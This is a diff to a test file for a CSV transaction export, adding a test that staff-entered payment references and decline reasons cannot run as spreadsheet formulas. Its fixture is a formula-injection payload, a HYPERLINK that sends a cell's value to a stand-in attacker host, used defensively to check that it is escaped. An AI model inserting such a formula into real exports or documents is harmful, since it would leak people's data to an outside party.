@@ -7,6 +7,7 @@ import {
   anInvestment,
   anInvestor,
   balancesOf,
+  fund,
   granted,
   type Investor,
   type Json,
@@ -108,6 +109,29 @@ test.group('GET /transaction/export', () => {
     )
     assert.equal(format(cents(sum)), '466.25')
     assert.equal((await balancesOf(investor)).balance, '466.25')
+  })
+
+  test('has no cell that a spreadsheet runs, whatever staff typed as reference or reason (T44)', async ({
+    assert,
+  }) => {
+    const [investor, banker] = await Promise.all([anInvestor(), theBanker()])
+    await fund(investor, 'BTC', '50.00')
+    const formula = '=HYPERLINK("https://evil.example/?x="&A2,"receipt")'
+    const wish = { method: 'bitcoin', amount: '7.25', address: WALLETS.bitcoin }
+    const [paid, refused] = [
+      await granted(investor.post('/withdrawal', wish)),
+      await granted(investor.post('/withdrawal', wish)),
+    ]
+    await granted(
+      banker.patch(`/admin/withdrawals/${paid.id}/approve`, { paymentReference: formula }),
+    )
+    await granted(banker.patch(`/admin/withdrawals/${refused.id}/decline`, { reason: formula }))
+    const [head = [], ...rows] = readCsv((await exported(investor)).text)
+    for (const [column, id] of [
+      ['Payment reference', paid.id],
+      ['Reason', refused.id],
+    ])
+      assert.equal(rows.find((cells) => cells.at(-1) === id)?.[head.indexOf(column)], `'${formula}`)
   })
 
   test('continues past one page, without a gap or a row twice', async ({ assert }) => {
